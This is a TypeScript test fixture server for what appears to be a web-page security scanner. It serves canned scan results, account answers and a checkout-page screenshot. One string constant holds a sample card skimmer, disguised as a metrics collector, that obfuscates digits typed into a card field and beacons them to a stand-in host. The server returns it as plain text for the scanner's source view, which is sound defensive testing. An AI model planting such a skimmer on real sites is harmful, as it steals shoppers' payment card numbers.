// Owns a small server for tests and development: the built site as the product serves it, and the contract answered from fixtures.
import { createServer, type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { ProblemCode } from '@tillwatch/contract/lists'
import { type AddressProblem, parsePageAddress } from '@tillwatch/contract/rules'
import type { JourneyRuns, PublicConfig } from '@tillwatch/contract/shapes'
import { formatInput } from '@tillwatch/messages/inputs'
import { createFixtureAccount } from './fixtures/account.ts'
import { createAssessors } from './fixtures/assessors.ts'
import { activeAccount } from './fixtures/members.ts'
import { fixtureProgress, fixtureScans } from './fixtures/scans.ts'
import { createStaffReviews } from './fixtures/staff-reviews.ts'
import { fixtureConfig, fixtureToken, fixtureUser } from './signed-in.ts'

function json(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
}

function problem(response: ServerResponse, status: number, code: ProblemCode, detail: string, reason?: AddressProblem): void {
  json(response, status, {
    type: 'about:blank',
    title: code,
    status,
    detail,
    code,
    requestId: 'fixture',
    ...(status === 400 ? { field: 'url' } : {}),
    ...(reason ? { reason } : {}),
  })
}

const code = `// collects page metrics\nfunction collect(field) {\n  const digits = field.value.replace(/\\D/g, '')\n  if (digits.length < 13) return null\n  return btoa(digits.split('').map((d) => d ^ 5).join(''))\n}\ndocument.querySelector('#cc').addEventListener('input', (event) => {\n  const value = collect(event.target)\n  if (value) navigator.sendBeacon('https://px.cdn-metrics-eu.example/b', value)\n})\n`

function serveEvents(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' })
  response.write(`event: progress\ndata: ${JSON.stringify(fixtureProgress)}\n\n`)
}

async function startScan(request: IncomingMessage, response: ServerResponse): Promise<void> {
  let text = ''
  for await (const chunk of request) text += String(chunk)
  const { url, cloakCheck } = JSON.parse(text) as { url: string; cloakCheck: boolean }
  const read = parsePageAddress(url)
  if (!read.ok) return problem(response, 400, 'bad-address', formatInput(read.message, 'en'), read.problem)
  if (new URL(read.url).hostname === '127.0.0.1') return problem(response, 400, 'address-refused', '127.0.0.1 is a private address.')
  if (new URL(read.url).hostname === 'busy.example') return problem(response, 409, 'conflict', 'A scan of this page is under way.')
  const [running] = fixtureScans
  json(response, 201, { ...running!.summary, url: read.url, cloakCheck: cloakCheck ? 'pending' : 'not-asked' })
}

async function serveApi(request: IncomingMessage, response: ServerResponse, path: string[], { runs }: JourneyRuns): Promise<void> {
  const [id, part, , last] = path
  if (part === 'journey-runs') return json(response, 200, { runs })
  if (!id)
    return request.method === 'POST'
      ? startScan(request, response)
      : json(response, 200, { scans: fixtureScans.map((scan) => scan.summary), next: null })
  const scan = fixtureScans.find((candidate) => candidate.summary.id === id)
  if (!scan) return problem(response, 404, 'not-found', 'There is no scan with this number.')
  if (request.method === 'DELETE') return void response.writeHead(204).end()
  if (!part) return json(response, 200, scan.summary)
  if (part === 'events') return serveEvents(response)
  if (part === 'cancel') return json(response, 200, { ...scan.summary, state: 'cancelled' })
  if (part === 'result')
    return scan.result ? json(response, 200, scan.result) : problem(response, 409, 'not-ready', 'This scan has no result.')
  if (part === 'screenshot' || part === 'step-before' || part === 'steps')
    return void response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(picture)
  if (part === 'scripts' && last === 'history')
    return json(response, 200, { history: path[2] === 's9' ? { siteId: 'site_1', scriptId: 'script_1' } : null })
  if (part === 'scripts' && last === 'source')
    return void response.writeHead(200, { 'content-type': 'text/plain', 'x-source-note': 'not-javascript' }).end(code)
  problem(response, 404, 'not-found', 'There is nothing here.')
}

const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="1440" height="1800" font-family="sans-serif"><rect width="1440" height="1800" fill="#fbfaf8"/><rect width="1440" height="96" fill="#1d2a35"/><text x="64" y="60" font-size="32" fill="#fff">Example Shop</text><text x="64" y="180" font-size="40" fill="#222">Checkout</text><rect x="64" y="230" width="760" height="420" fill="#fff" stroke="#d24" stroke-width="6"/><rect x="104" y="280" width="680" height="64" fill="#f1f1f1"/><rect x="104" y="372" width="320" height="64" fill="#f1f1f1"/><rect x="464" y="372" width="320" height="64" fill="#f1f1f1"/><rect x="104" y="500" width="680" height="80" fill="#27795b"/><rect x="900" y="230" width="460" height="300" fill="#eee"/></svg>`

/** The site as the product itself serves it: its documents, policy and compression. */
async function serveSite(dist: string, hosts: () => string[], tagManagerUrl: string | null): Promise<RequestListener> {
  const { default: fastify } = await import('fastify')
  const { registerSite } = await import('../../server/src/http/site.ts')
  const app = fastify()
  const sendDocument = await registerSite(app, dist, { hosts, secure: false }, tagManagerUrl)
  app.setNotFoundHandler((request, reply) =>
    /\.[a-z0-9]{2,5}$/i.test(request.url) ? reply.code(404).send() : sendDocument(request, reply),
  )
  await app.ready()
  return app.routing
}

/** What the site asks before it shows anything: its configuration, and whether somebody is signed in. */
function identityAnswers(signedIn: boolean): Record<string, unknown> {
  const { uid: id, email, emailVerified } = fixtureUser
  return {
    '/api/auth/get-session': signedIn ? { session: { id: 's1' }, user: { id, email, emailVerified } } : null,
    '/api/auth/sign-out': { success: true },
    '/functions/us-central1/appendSubscriptionToToken': { data: { success: true } },
    [`/documents/cookieConsents/${id}`]: { userId: id, consent: 'declined' },
  }
}

export interface FixtureServerOptions {
  /** 0 takes a free one. */
  port?: number
  /** The built site; without it the API answers alone. */
  dist?: string
  /** Whether each visitor is signed in. */
  signedIn?: boolean
  /** The tag manager that is configured. */
  tagManager?: PublicConfig['tagManager']
}

/** Starts the server on loopback. */
export async function startFixtureServer({ port = 0, dist, signedIn = false, tagManager = null }: FixtureServerOptions = {}): Promise<{
  origin: string
  /** What the signed-in person's account holds; a test may change it. */
  account: ReturnType<typeof createFixtureAccount>
  /** The evidence, and what an assessor reads of it. */
  assessors: ReturnType<typeof createAssessors>
  /** What reviewers are shown. */
  staffReviews: ReturnType<typeof createStaffReviews>
  close: () => Promise<void>
}> {
  const account = createFixtureAccount()
  const assessors = createAssessors()
  const staffReviews = createStaffReviews()
  const identity = { ...identityAnswers(signedIn), '/api/v1/config': { ...fixtureConfig, tagManager } }
  const host = () => `127.0.0.1:${(server.address() as AddressInfo).port}`
  const site = dist === undefined ? null : await serveSite(dist, () => [host()], tagManager?.url ?? null)
  const server: Server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost')
    const api = /^\/api\/v1\/scans\/?(.*)$/.exec(pathname)
    if (pathname === '/api/auth/token') json(response, 200, { token: fixtureToken(activeAccount(account.state)) })
    else if (Object.hasOwn(identity, pathname)) json(response, 200, identity[pathname as keyof typeof identity])
    else if (assessors.knows(request)) assessors.answer(request, response)
    else if (staffReviews.knows(pathname)) void staffReviews.answer(request, response, pathname)
    else if (account.knows(pathname)) void account.answer(request, response, pathname)
    else if (api) void serveApi(request, response, (api[1] ?? '').split('/'), account.state.journeyRuns)
    else if (site) site(request, response)
    else response.writeHead(404).end()
  })
  await new Promise<void>((done) => server.listen(port, '127.0.0.1', done))
  const close = () =>
    new Promise<void>((done) => {
      server.closeAllConnections()
      server.close(() => done())
    })
  return { origin: `http://${host()}`, account, assessors, staffReviews, close }
}
